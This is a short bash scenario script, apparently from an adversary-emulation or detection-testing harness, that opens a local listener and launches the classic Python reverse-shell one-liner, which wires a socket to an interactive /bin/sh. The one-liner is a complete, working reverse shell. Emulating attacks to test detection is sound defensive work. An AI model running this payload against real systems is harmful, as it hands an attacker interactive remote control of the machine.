#!/usr/bin/env bash
# Reverse shell: the classic Python one-liner (socket, dup2 onto 0/1/2, subprocess /bin/sh -i).
. "$(dirname "$0")/../lib.sh"
scn_begin revshell-python T1059.006
[ -n "$SCN_PY" ] || scn_skip "python3 is not installed"
scn_attacker_listen 4449
"$SCN_PY" -c 'import socket,subprocess,os,sys;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((sys.argv[1],int(sys.argv[2])));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"])' "$SCN_PEER" "$SCN_PORT" 2>/dev/null &
interp=$!
scn_track $interp
printf 'SCENARIO-INFO interpreter_pid=%s\n' "$interp"
scn_shell_finish
